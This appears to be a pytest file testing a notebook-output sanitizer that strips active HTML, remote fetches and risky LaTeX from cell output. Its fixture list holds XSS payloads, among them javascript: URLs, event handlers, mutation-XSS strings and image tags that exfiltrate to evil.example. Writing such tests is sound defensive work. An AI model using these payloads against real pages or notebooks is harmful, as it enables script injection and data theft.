"""HTML of hostile cells, cleaned: nothing of it acts, nothing is fetched, nothing looks like a part of the page."""

from __future__ import annotations

import re

import pytest

from casemate.surfaces.kernel.inert_display import make_inert

HOSTILE = (
    "<script>x</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?secret'>",
    "<img src='//evil.example/?secret'>",
    "<img srcset='https://evil.example/ 1x'>",
    "<img src='data:text/html,<script>x</script>'>",
    "<svg onload=x><script>x</script></svg>",
    "<a href='javascript:x'>a</a>",
    "<a href='JaVaScRiPt:x'>a</a>",
    "<a href='java\tscript:x'>a</a>",
    "<a href='data:text/html,<script>x</script>'>a</a>",
    "<a href='/api/terminals'>a</a>",
    "<button data-commandlinker-command='terminal:create-new'>b</button>",
    "<div class='jp-Dialog' id='x' style='position: fixed; inset: 0'>d</div>",
    "<iframe srcdoc='<script>x</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<style>@import url(https://evil.example)</style>",
    "<p style='background: url(https://evil.example); color: red'>p</p>",
    "<form action='https://evil.example'><input autofocus onfocus=x></form>",
    "<meta http-equiv=refresh content='0;https://evil.example'><base href='https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example'>",
    "<video src='https://evil.example' poster='https://evil.example'></video>",
    "<blockquote cite='/api'>q</blockquote>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=x>'>",
)
# Names of elements and attributes that may be left, and what may not stand anywhere outside of text.
HARMLESS = {"a", "b", "p", "div", "img", "blockquote", "table", "style", "href", "title", "rel", "src", "alt"}


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_left_without_anything_that_acts(html: str) -> None:
    data, _, _ = make_inert({"text/html": html}, {})
    tags = re.findall(r"<(\w+)((?:\s+[\w-]+=\"[^\"]*\")*)\s*>", data["text/html"])
    names = {tag for tag, _ in tags} | {name for _, rest in tags for name in re.findall(r"([\w-]+)=\"", rest)}
    assert names <= HARMLESS
    values = [value for _, rest in tags for value in re.findall(r"(?:src|href|style|cite)=\"([^\"]*)\"", rest)]
    assert [value for value in values if value.replace(" ", "").rstrip(";") != "color:red"] == []


@pytest.mark.parametrize(
    "text",
    ["$x$", "$$x$$", r"\(x\)", r"\[x\]", r"\begin{align}x\end{align}", r"\eqref{x}", "&#36;x&#36;", "$<!-- -->x<br>$"],
)
def test_no_latex_is_found_in_html(text: str) -> None:
    """MathJax joins texts over line breaks and comments, and over nothing else."""
    data, _, _ = make_inert({"text/html": f'<p title=">$x$">1 > 0 {text}</p>'}, {})
    shown = re.sub(r'<(?!br|wbr)(?:[^">]|"[^"]*")*>', "\n", data["text/html"]).split("\n")
    assert [one for one in shown if re.search(r"[$\\].", one)] == []
    assert re.sub(r"</?span>", "", data["text/html"]).startswith('<p title="&gt;$x$">1 &gt; 0 ')


def test_tables_and_texts_stay_as_they_are() -> None:
    table = '<table class="dataframe"><tbody><tr><td colspan="2" style="text-align:right">1</td></tr></tbody></table>'
    link = '<a href="https://example.org" rel="noopener noreferrer">l</a>'
    picture = '<img src="data:image/png;base64,AAAA" width="3">'
    for html in (table, link, picture):
        assert make_inert({"text/html": html}, {})[0] == {"text/html": html}


def test_other_types_are_left_out_and_told() -> None:
    bundle = {
        "text/plain": "p", "application/json": {"a": 1}, "image/png": "AAAA", "image/jpeg": '"><script>',
        "application/javascript": "x", "text/markdown": "m", "application/vnd.jupyter.widget-view+json": {},
        "text/latex": "<b>", "image/svg+xml": "<svg/>",
    }  # fmt: skip
    data, metadata, left_out = make_inert(bundle, {"image/png": {"width": 3, "class": "x"}, "text/plain": "x"})
    assert set(data) == {"text/plain", "application/json", "image/png", "text/html"}
    assert metadata == {"image/png": {"width": 3}}
    assert left_out == [
        "application/javascript", "application/vnd.jupyter.widget-view+json", "image/jpeg", "text/latex",
        "text/markdown",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "latex",
    [
        r"\href{javascript:x}{y}",
        r"\def\a{\href}",
        r"\csname href\endcsname",
        r"\require{html}",
        "</script>x",
        r"\unicode{x}",
        r"\bbox[border:1px]{x}",
        r"\newcommand{\a}{b}",
    ],
)
def test_formulas_that_lead_elsewhere_are_left_out(latex: str) -> None:
    data, _, left_out = make_inert({"text/latex": f"${latex}$", "text/plain": "p"}, {})
    assert (data, left_out) == ({"text/plain": "p"}, ["text/latex"])
    assert make_inert({"text/latex": r"$\frac{1}{2}$"}, {})[0] == {"text/latex": r"$\frac{1}{2}$"}


def test_a_cell_chooses_sizes_and_no_way_to_be_shown() -> None:
    _, metadata, _ = make_inert({"text/html": "<b>x</b>"}, {"text/html": {"isolated": True, "width": 3}})
    assert metadata == {"text/html": {"width": 3}}
